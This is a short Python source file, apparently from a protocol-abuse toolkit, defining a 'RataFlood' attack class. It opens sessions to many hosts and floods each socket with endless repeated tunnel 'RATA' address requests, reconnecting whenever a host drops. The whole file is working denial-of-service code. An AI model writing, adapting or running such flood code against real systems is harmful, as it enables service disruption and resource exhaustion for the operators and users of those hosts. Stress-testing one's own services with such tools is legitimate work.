from abuse.attack import Attack, tunnel_client


class RataFlood(Attack):
    name = "rata_flood"
    what = "hosts, and asks for a guest's address without end"
    is_flood = True
    setup = 3

    def run(self):
        hosts = [host for host in map(self.session, self.sources) if host]
        question = (tunnel_client.RATA + bytes(12)) * 256
        while not self.stop.is_set():
            for host in list(hosts):
                host.socket.setblocking(False)
                try:
                    self.deeds += host.socket.send(question) // 16
                    host.socket.recv(1 << 16)
                except BlockingIOError:
                    pass
                except OSError:
                    hosts.remove(host)
                    host.close()
                    again = self.session(host.source)
                    if again:
                        hosts.append(again)
            if not hosts:
                self.stop.wait(0.05)
                hosts = [host for host in map(self.session, self.sources) if host]
